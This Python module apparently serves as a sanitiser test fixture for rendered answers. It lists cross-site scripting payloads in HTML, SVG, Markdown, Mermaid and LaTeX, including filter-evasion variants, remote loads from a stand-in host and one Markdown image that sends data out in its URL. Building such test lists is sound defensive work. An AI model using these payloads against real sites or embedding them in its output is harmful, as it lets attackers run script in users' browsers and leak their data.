r"""What an answer may hold to make a page run, fetch or show what it should not. `ran()` and the host tell."""

import base64

HOST = "evil.example"
_HREF = base64.b64encode(b"<script>ran()</script>").decode()

PAYLOADS = (
    # Markup that runs by itself.
    "<script>ran()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<img src=x onerror=ran()>",
    "<img src=//evil.example/i.png>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text y=20>go</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:ran()></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
    "<math href=javascript:ran()>x</math>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=//evil.example/o.swf></object>",
    "<embed src=//evil.example/e.swf>",
    "<video src=//evil.example/v.mp4 autoplay onloadstart=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<source onerror=ran() srcset=//evil.example/s.png>",
    "<details open ontoggle=ran()>x</details>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()></select>",
    "<marquee onstart=ran()>x</marquee>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<link rel=preload as=image href=//evil.example/p.png>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>go</button></form>",
    "<style>@import '//evil.example/s.css'; * { background: url(//evil.example/b.png) }</style>",
    "<div style='background:url(//evil.example/d.png)' onmouseover=ran()>x</div>",
    "<p onclick=ran() id=root data-testid=composer-input>x</p>",
    "<template><script>ran()</script></template><noscript><img src=//evil.example/n.png></noscript>",
    # Markup that is cut, nested or misspelled.
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran()//<</script>",
    "<img src=x onerror=ran()",
    "<img/src=x/onerror=ran()//",
    "<!--<img src='--><img src=x onerror=ran()>'>",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "</textarea></title></style></script><script>ran()</script>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "&lt;script&gt;ran()&lt;/script&gt; &#60;img src=x onerror=ran()&#62;",
    # Links and pictures of Markdown.
    "[link](javascript:ran())",
    "[link](JaVaScRiPt&colon;ran())",
    "[link](&#106;avascript:ran())",
    "[link](java\tscript:ran())",
    f"[link](data:text/html;base64,{_HREF})",
    "[link](vbscript:ran())",
    "<javascript:ran()>",
    "[a]: javascript:ran()\n\n[a]",
    '[link](https://evil.example/ "\\" onmouseover=ran() \\"")',
    "![secret](https://evil.example/p.png?d=secret)",
    "![x](//evil.example/x.png) ![y][y]\n\n[y]: https://evil.example/y.png",
    "![x](javascript:ran()) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+)",
    "[![inner](https://evil.example/in.png)](javascript:ran())",
    # What is drawn by a library.
    "```mermaid\ngraph TD; A[<img src=x onerror=ran()>] --> B; click A javascript:ran()\n```",
    "```html\n<img src=x onerror=ran()><script>ran()</script>\n```",
    "$\\href{javascript:ran()}{x}$ $\\includegraphics{https://evil.example/k.png}$ $\\url{javascript:ran()}$",
    "$$\\htmlData{x=1}{\\htmlStyle{background:url(https://evil.example/h.png)}{x}} \\def\\a{\\a\\a}\\a$$",
)
"""Sixty of them."""
